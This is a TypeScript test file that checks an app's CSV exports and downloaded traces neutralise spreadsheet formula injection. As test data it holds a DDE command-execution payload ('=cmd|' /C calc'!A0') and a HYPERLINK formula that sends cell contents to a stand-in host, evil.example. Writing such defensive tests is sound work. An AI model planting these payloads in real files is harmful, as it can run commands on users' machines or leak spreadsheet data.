/**
 * CSV formula injection (issue 13, finding 6): every CSV the app writes neutralises text cells that
 * a spreadsheet would run as a formula, keeps numbers as numbers, and the uploaded trace a planner
 * downloads again comes back neutralised.
 */
import { parse } from "csv-parse/sync";
import { afterAll, describe, expect, it } from "vitest";
import { truckLine } from "../../src/cli/sim-csv.ts";
import { csvCell, neutraliseCsv } from "../../src/domain/csv.ts";
import { reportCsv } from "../../src/sim/report-csv.ts";
import { formatTrace } from "../../src/sim/trace-record.ts";
import { simRunStore } from "../../src/store/sim-runs.ts";
import { testRuntime } from "../api/support.ts";
import { plannerSession } from "../planner/support.ts";

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  '=HYPERLINK("http://x","y")',
];

describe("csvCell", () => {
  it("gives every text cell that begins with = + - @ tab or CR a leading apostrophe, quoted", () => {
    for (const text of HOSTILE) {
      const cell = csvCell(text);
      const read = (parse(cell) as string[][])[0]?.[0];
      expect(read, JSON.stringify(text)).toBe(`'${text}`);
      expect(cell.startsWith('"')).toBe(true);
    }
  });

  it("leaves numbers (negative ones too), plain text and empty cells as they are", () => {
    expect([-5, 0, 1.25, Number.NaN, null, undefined].map(csvCell)).toEqual(["-5", "0", "1.25", "", "", ""]);
    expect(["-5", "+3", "-0.5", "1e3", "-.5"].map(csvCell)).toEqual(["-5", "+3", "-0.5", "1e3", "-.5"]);
    expect(["123ABC02", "Five lanes", "a-b=c", ""].map(csvCell)).toEqual([
      "123ABC02",
      "Five lanes",
      "a-b=c",
      "",
    ]);
    expect(csvCell('say "hi", twice')).toBe('"say ""hi"", twice"');
  });
});

describe("every CSV the app writes", () => {
  const minutes = { count: 1, mean: 1, p50: 1, p90: 1, p95: 1, p99: 1, max: 1 };
  const report = {
    scenario: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    seed: 1,
    replications: 1,
    trucksArrived: 1,
    trucksCompleted: 1,
    throughputPerHour: 1,
    // issue 16's figures, each present so the whole report is written
    steadyState: true,
    warnings: ["=cmd|' /C calc'!A0"],
    trucksExited: 1,
    trucksRefused: 0,
    trucksExpired: 0,
    trucksInsideAtStart: 0,
    trucksInsideAtEnd: 0,
    waitMinutes: minutes,
    gateWaitMinutes: minutes,
    virtualQueueWaitMinutes: minutes,
    timeInSystemMinutes: minutes,
    entryToReleaseMinutes: minutes,
    stageMinutes: {},
    resourceWaitMinutes: {},
    resourceServiceMinutes: {},
    byChannel: {},
    byClass: {},
    utilisation: {},
    queueLength: { mean: 0, max: 0 },
    gateQueue: { mean: 0, max: 0, atEnd: 0 },
    virtualQueue: { mean: 0, max: 0, atEnd: 0 },
    hourly: [{ hour: 0, arrivals: 1, completed: 1, meanWaitMinutes: -0, queueLength: 0 }],
  };

  it("a run's report: a scenario named like a formula reaches the CSV as text", () => {
    const rows = parse(reportCsv(report as never), { relax_column_count: true }) as string[][];
    expect(rows[1]).toEqual(["scenario", `'${report.scenario}`]);
    expect(rows.find((r) => r[0] === "warning")).toEqual(["warning", `'${report.warnings[0]}`]);
  });

  it("the simulator's trucks.csv and a recorded trace: a plate like a formula is text", () => {
    const truck = {
      id: 1,
      plate: "=1+2",
      channel: "green",
      priority: "ordinary",
      arrivedAt: 0,
      calledAt: 1,
      leftAt: 2,
      outcome: "released",
      stageMinutes: {},
    };
    expect((parse(truckLine(0, truck as never)) as string[][])[0]?.[2]).toBe("'=1+2");
    const trace = formatTrace([
      {
        arrivalAt: 0,
        plate: "@cmd",
        channel: "green",
        priority: false,
        documentCheckMinutes: 5,
        scanMinutes: null,
        physicalInspectionMinutes: null,
      },
    ]);
    expect((parse(trace, { columns: true }) as Record<string, string>[])[0]?.plate).toBe("'@cmd");
  });

  it("neutraliseCsv serves a stranger's CSV back cell by cell", () => {
    const back = neutraliseCsv("arrival,plate,channel\n-5,\"=cmd|' /C calc'!A0\",green\n");
    expect(parse(back)).toEqual([
      ["arrival", "plate", "channel"],
      ["-5", "'=cmd|' /C calc'!A0", "green"],
    ]);
  });
});

describe("an uploaded trace, downloaded again", () => {
  const rt = testRuntime();
  afterAll(() => rt.close());

  it("comes back with its formula cells neutralised", async () => {
    const fetch = async (path: string, init?: RequestInit) => rt.app.request(path, init);
    const p = await plannerSession(fetch);
    const runs = simRunStore(rt.deps.db);
    const now = rt.deps.now();
    const traceId = runs.saveTrace(
      { file: "t.csv", csv: "arrival,plate,channel\n0,=cmd|' /C calc'!A0,green\n", rowCount: 1 },
      now,
    );
    const scenario = runs.scenarios()[0];
    if (!scenario) throw new Error("no example scenario");
    const runId = runs.queueRun(
      { scenarioId: scenario.id, scenario: {}, seed: 1, replications: 1, engineVersion: "t", traceId },
      now,
    );
    const res = await p.get(`/planner/runs/${runId}/trace.csv`);
    expect(res.status).toBe(200);
    const rows = parse(await res.text()) as string[][];
    expect(rows[1]).toEqual(["0", "'=cmd|' /C calc'!A0", "green"]);
  });
});
